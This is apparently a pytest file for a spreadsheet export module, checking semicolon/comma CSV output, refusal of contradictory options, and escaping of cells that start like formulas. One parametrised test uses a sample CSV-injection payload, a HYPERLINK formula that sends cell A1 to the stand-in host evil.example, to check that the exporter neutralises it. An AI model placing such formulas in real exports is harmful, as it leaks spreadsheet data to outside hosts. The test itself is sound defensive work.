"""CSV for a German or French Excel (`;` and `,`), and cells escaped against formula injection (CSV and xlsx)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from mixplan.export.cells import escape_formula
from mixplan.export.csv_format import posts_csv, spend_csv
from mixplan.exporters import ExportOptions
from mixplan.model import Plan, Scenario

GERMAN = ExportOptions(delimiter=";", decimal=",")


def _rows(data: bytes, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_a_semicolon_csv_reads_back_in_columns_with_comma_decimals(plan: Plan, scenario: Scenario) -> None:
    data = spend_csv(plan, scenario, GERMAN)
    assert b";" in data.splitlines()[0]
    rows = _rows(data, ";")
    assert len(rows) == len(plan.spend)
    spend = sorted(plan.spend, key=lambda a: (a.day, a.channel_id))
    for row, allocation in zip(rows, spend, strict=True):
        assert row["date"] == allocation.day.isoformat() and row["channel"] == allocation.channel_id
        assert "." not in row["amount"]
        assert Decimal(row["amount"].replace(",", ".")) == allocation.amount
        assert Decimal(row["expected_revenue"].replace(",", ".")) == allocation.expected_revenue
    posts = _rows(posts_csv(plan, scenario, GERMAN), ";")
    assert {row["title"] for row in posts} >= {"Café-Tasse, handmade"}  # the comma in a title stays in one cell
    assert posts[0]["time"] == "09:00" and posts[0]["start"].startswith("2025-10-24T09:00")


def test_the_default_csv_keeps_commas_and_points(plan: Plan, scenario: Scenario) -> None:
    rows = _rows(spend_csv(plan, scenario), ",")
    assert Decimal(rows[0]["amount"]) in {a.amount for a in plan.spend}


@pytest.mark.parametrize(
    ("options", "problem"),
    [({"delimiter": ",", "decimal": ","}, "both"), ({"delimiter": ";;"}, "one character"), ({"decimal": "_"}, "'.'")],
)
def test_contradicting_options_are_refused(options: dict[str, str], problem: str) -> None:
    with pytest.raises(ValueError, match=problem):
        ExportOptions(**options)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_leading_titles_are_prefixed_with_a_quote(plan: Plan, scenario: Scenario, start: str) -> None:
    hostile = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    items = [item.model_copy(update={"title": hostile}) if item.id == "mug" else item for item in scenario.content]
    rows = _rows(posts_csv(plan, scenario.model_copy(update={"content": items})), ",")
    titles = {row["title"] for row in rows if row["content_id"] == "mug"}
    assert titles == {"'" + hostile}


def test_numbers_and_ordinary_text_are_not_escaped() -> None:
    assert escape_formula("-12.50") == "-12.50"
    assert escape_formula("Café-Tasse") == "Café-Tasse"
    assert escape_formula("-1 day sale") == "'-1 day sale"
